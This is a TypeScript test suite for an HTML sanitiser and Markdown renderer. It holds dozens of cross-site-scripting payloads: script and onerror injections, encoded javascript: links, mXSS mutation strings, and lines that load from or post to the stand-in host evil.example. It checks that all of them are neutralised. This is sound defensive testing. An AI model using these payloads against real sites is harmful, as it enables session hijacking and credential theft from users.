import fc from "fast-check";
import { type DefaultTreeAdapterTypes, parseFragment } from "parse5";
import { expect, test } from "vitest";
import { renderMarkdown, sanitiseHtml } from "@/lib/kernel/sanitise";
import { patience } from "@/tests/support/patience";

interface Tag {
  name: string;
  attributes: Record<string, string>;
}

/** The tags that a browser would parse from HTML (parse5 follows the HTML standard), including templates and foreign content. */
function readTags(html: string): Tag[] {
  const tags: Tag[] = [];
  const open: DefaultTreeAdapterTypes.Node[] = [parseFragment(html)];
  for (let node = open.pop(); node !== undefined; node = open.pop()) {
    if ("tagName" in node)
      tags.push({ name: node.tagName, attributes: Object.fromEntries(node.attrs.map(({ name, value }) => [name, value])) });
    if ("content" in node) open.push(node.content);
    if ("childNodes" in node) open.push(...node.childNodes);
  }
  return tags;
}

const blockTags = "h[1-6]|p|br|hr|blockquote|pre|code|div|span|[uod]l|li|d[td]|table|caption|thead|tbody|tfoot|tr|t[hd]|figure|figcaption";
const wordTags = "a|img|strong|b|em|i|u|s|del|ins|mark|small|su[bp]|abbr|kbd|samp|var|q|cite|bd[io]";
const safeTags = new RegExp(`^(${blockTags}|${wordTags})$`);
const safeAttributes = /^(dir|lang|href|title|rel|src|alt|width|height|start|align|colspan|rowspan|scope|class)$/;

/** Expects nothing that runs, loads, styles or frames. */
function expectSafe(html: string): void {
  for (const { name, attributes } of readTags(html)) {
    expect(name).toMatch(safeTags);
    for (const [attribute, value] of Object.entries(attributes)) {
      expect(attribute).toMatch(safeAttributes);
      if (attribute === "href") expect(value).toMatch(/^(https?:|mailto:|#)/i);
      if (attribute === "src") expect(value).toMatch(/^https:/i);
      if (attribute === "class") expect(value).toMatch(/^language-[a-z0-9-]+$/);
    }
    if (name === "a") expect(attributes["rel"]).toBe("nofollow noopener noreferrer");
  }
}

const vectors = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script",
  "<script x",
  "<<script>alert(1)//<</script>",
  "<img src=x onerror=alert(1)>",
  "<img src='https://a.example/x.png' onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  "<img src=`x` onerror=alert(1)>",
  "<img src=javascript:alert(1)>",
  "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
  "<img src=data:image/png;base64,AAAA>",
  "<img src=//evil.example/x.png>",
  "<img src=http://evil.example/x.png>",
  "<img srcset='https://e.example/x 1x'>",
  "<img src='https://a.example/x.png' style='position:fixed;top:0'>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<style><img src=x onerror=alert(1)></style>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
  "<a href='javascript&#58;alert(1)'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='//evil.example'>x</a>",
  "<a href='\\\\evil.example'>x</a>",
  "<a href='/\\evil.example'>x</a>",
  "<a href='blob:https://a.example/1'>x</a>",
  "<a href='file:///etc/passwd'>x</a>",
  "<a href='intent://x'>x</a>",
  "<a href='https://a.example' onclick=alert(1) target=_blank rel=opener>x</a>",
  "<iframe src=https://evil.example></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=x></object>",
  "<embed src=x>",
  "<applet code=x>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example>",
  "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<select><option>x</select>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<body onload=alert(1)>",
  "<html><head><title><script>alert(1)</script></title></head>",
  "<template><script>alert(1)</script></template>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><img src=x onerror=alert(1)>",
  "<div style='background:url(javascript:alert(1))'>x</div>",
  "<div style='position:fixed;inset:0'>x</div>",
  "<p id=location name=cookie class=admin>x</p>",
  "<td style='text-align:center;background:url(https://evil.example)'>x</td>",
  "<code class='language-js admin'>x</code>",
  "<x-custom onclick=alert(1)>x</x-custom>",
  "<p/onclick=alert(1)>x",
  "<p\u000bonclick=alert(1)>x",
  "<p onclick=alert(1) ONCLICK=alert(2)>x",
  '<a href="https://a.example/"onmouseover="alert(1)">x</a>',
  "<table background='javascript:alert(1)'><tr><td>x</table>",
];

test.each(vectors)("HTML: %s", (vector) => {
  expectSafe(sanitiseHtml(vector));
  expectSafe(sanitiseHtml(sanitiseHtml(vector)));
});
test.each(vectors)("HTML within Markdown: %s", (vector) => {
  expectSafe(renderMarkdown(vector));
  expectSafe(renderMarkdown(`text ${vector} text\n\n- item ${vector}\n\n> ${vector}`));
});

const markdownVectors = [
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](java&#115;cript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "[x](data:text/html;base64,AAAA)",
  "[x](vbscript:x)",
  "[x](//evil.example)",
  "![x](javascript:alert(1))",
  "![x](data:image/png;base64,AAAA)",
  "![x](http://evil.example/x.png)",
  '![x](https://a.example/x.png"onerror="alert(1))',
  '[x](https://a.example "t\\" onclick=alert(1)")',
  '!["onerror="alert(1)](https://a.example/x.png)',
  '```"><script>alert(1)</script>\nx\n```',
  "```js onclick=alert(1)\nx\n```",
  "`<script>alert(1)</script>`",
  '<https://a.example/"onclick=alert(1)>',
  'https://a.example/"onclick=alert(1)',
  "# <img src=x onerror=alert(1)>",
  "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
];
test.each(markdownVectors)("Markdown: %s", (vector) => expectSafe(renderMarkdown(vector)));

test("any mix of text, tags and quotes becomes safe", () => {
  const piece = fc.constantFrom(
    "<",
    ">",
    '"',
    "'",
    "=",
    "/",
    "!--",
    "-->",
    "script",
    "img",
    "svg",
    "style",
    "a",
    "p",
    "math",
    " ",
    "\n",
    "href",
    "src",
    "onerror",
    "javascript:",
    "https://a.example",
    "`",
    "[",
    "](",
    ")",
    "&lt;",
    "&#106;",
    "\0",
    "x",
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
      expectSafe(sanitiseHtml(pieces.join("")));
      expectSafe(renderMarkdown(pieces.join("")));
    }),
    { numRuns: 500 },
  );
});

test("sanitising is idempotent", () => {
  for (const vector of vectors) expect(sanitiseHtml(sanitiseHtml(vector))).toBe(sanitiseHtml(vector));
});

test("common formatting is kept", () => {
  const written =
    '<h2>Title</h2><p dir="rtl" lang="ar">مرحبا <strong>b</strong> <em>i</em></p><ul><li>one</li></ul><table><tr><th colspan="2" ' +
    'align="right">h</th></tr></table><blockquote>q</blockquote><pre><code class="language-ts">x &lt; y</code></pre>';
  expect(sanitiseHtml(written)).toBe(written);
});

test("Markdown: headings, tables with alignment, lists, strikethrough, code", () => {
  expect(renderMarkdown("# A & B\n\n| a | b |\n|:-:|--:|\n| 1 | ~~2~~ |")).toBe(
    '<h1>A &amp; B</h1>\n<table>\n<thead>\n<tr>\n<th align="center">a</th>\n<th ' +
      'align="right">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td align="center">1</td>\n<td ' +
      'align="right"><s>2</s></td>\n</tr>\n</tbody>\n</table>\n',
  );
  expect(renderMarkdown("1. one\n2. two\n\n```ts\nx < y\n```")).toBe(
    '<ol>\n<li>one</li>\n<li>two</li>\n</ol>\n<pre><code class="language-ts">x &lt; y\n</code></pre>\n',
  );
});

test("links to web, mail and the same page keep their address and gain rel", () => {
  const rel = 'rel="nofollow noopener noreferrer"';
  expect(renderMarkdown("[w](https://a.example/?q=1&r=2) [h](http://a.example) [m](mailto:a@b.example) [s](#part)")).toBe(
    `<p><a href="https://a.example/?q=1&amp;r=2" ${rel}>w</a> <a href="http://a.example" ${rel}>h</a> <a ` +
      `href="mailto:a@b.example" ${rel}>m</a> <a href="#part" ${rel}>s</a></p>\n`,
  );
  expect(renderMarkdown("see https://a.example and report.md")).toBe(
    `<p>see <a href="https://a.example" ${rel}>https://a.example</a> and report.md</p>\n`,
  );
});

test("an https image is kept, any other is removed completely", () => {
  expect(sanitiseHtml('<img src="https://a.example/x.png" alt="x">')).toBe('<img src="https://a.example/x.png" alt="x" />');
  expect(sanitiseHtml('a<img src="http://a.example/x.png" alt="x">b<img alt="x">c')).toBe("abc");
});

const hostile = [
  "*a ",
  "_a_",
  "[",
  "[a](",
  "![[]",
  "`a",
  "<",
  "<a ",
  "<!--",
  "a@",
  "http://a",
  "> ",
  "1. ",
  "|a",
  "a**b",
  "#",
  "\\",
  "&",
  "[a]: b\n",
  "<div>",
];
test.each(hostile)("100,000 characters of %j finish", { timeout: patience(20_000) }, (piece) => {
  const text = piece.repeat(Math.floor(100_000 / piece.length));
  for (const html of [renderMarkdown(text), sanitiseHtml(text)]) expect(html).not.toMatch(/<(script|a href="javascript)/);
});

test("oversized text is rejected before it is parsed", () => {
  expect(() => renderMarkdown("a".repeat(100_001))).toThrow(expect.objectContaining({ code: "too_large" }));
  expect(() => sanitiseHtml("a".repeat(1_000_001))).toThrow(expect.objectContaining({ code: "too_large" }));
  expect(renderMarkdown("&".repeat(100_000)).startsWith("<p>&amp;&amp;")).toBe(true);
});
